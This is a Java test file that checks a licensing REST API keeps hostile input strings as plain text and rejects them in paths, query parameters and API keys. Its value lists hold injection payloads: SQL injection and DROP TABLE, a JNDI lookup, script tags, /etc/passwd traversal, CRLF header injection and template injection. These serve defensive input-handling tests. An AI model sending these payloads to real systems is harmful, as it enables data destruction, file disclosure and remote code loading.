package io.quantumlock.adapter.rest;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// Text that would do harm where it is not taken as text, put into every place that takes any.
class HostileTextTest {
  @RegisterExtension static final World world = World.shared();

  private final ApiClient acme = world.customer();

  @ParameterizedTest
  @ValueSource(
      strings = {
        "' OR '1'='1",
        "'; DROP TABLE licenses; --",
        "\\\"; --",
        "${jndi:ldap://example.com/a}",
        "<script>alert(1)</script>",
        "../../etc/passwd",
        "%00%0d%0aSet-Cookie: a=b",
        "{{7*7}}",
        "\u202egnp.exe",
        "Z͑ͫ̓a͡lgo",
        "𝕏😀",
        "\u2028\u2029",
        "null",
        "-1e309",
      })
  void isKeptAsItIsAndDoesNothing(String text) {
    var json = text.replace("\\", "\\\\").replace("\"", "\\\"");
    var issued =
        acme.post(
            "/api/v1/licenses/generate",
            "{\"end_customer_id\": \"%1$s\", \"features\": [\"%1$s\"], \"metadata\": {\"%1$s\": \"%1$s\"}}"
                .formatted(json));
    assertThat(issued.get("end_customer_id")).isEqualTo(text);
    assertThat(issued.json().get("features").get(0).asString()).isEqualTo(text);
    var path = "/api/v1/licenses/" + issued.get("license_key");
    var revoked = acme.post(path + "/revoke", "{\"reason\": \"%s\"}".formatted(json));
    assertThat(revoked.get("reason")).isEqualTo(text);
    assertThat(acme.get(path + "?include=metadata").json().at("/metadata").path(text).asString())
        .isEqualTo(text);
  }

  /// Where nobody reads it, it may be any.
  @Test
  void thatCouldNotBeKeptIsIgnoredWithItsField() {
    var body = "{\"end_customer_id\": \"a\", \"\\u0000\": 1, \"x\": [{\"\\ud800\": \"\\u0000\"}]}";
    assertThat(acme.post("/api/v1/licenses/generate", body).status()).isEqualTo(201);
  }

  @ParameterizedTest
  @ValueSource(strings = {"' OR '1'='1", "'; DROP TABLE licenses; --", "\u0001", "a\\ud800"})
  void findsNothingAndNoWayIn(String text) {
    var before = acme.get("/api/v1/licenses").body();
    var encoded = URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    assertThat(acme.get("/api/v1/licenses/" + encoded).status()).isIn(400, 404);
    assertThat(acme.post("/api/v1/licenses/" + encoded + "/revoke", "").status()).isIn(400, 404);
    for (var parameter : new String[] {"page", "per_page", "status_filter"}) {
      var answer = acme.get("/api/v1/licenses?" + parameter + "=" + encoded);
      assertThat(answer.fields()).containsExactly(parameter);
    }
    assertThat(acme.get("/api/v1/revocations?since=" + encoded).status()).isEqualTo(400);
    assertThat(acme.withApiKey(encoded).get("/api/v1/stats").status()).isEqualTo(401);
    assertThat(acme.get("/api/v1/licenses").body()).isEqualTo(before);
  }
}
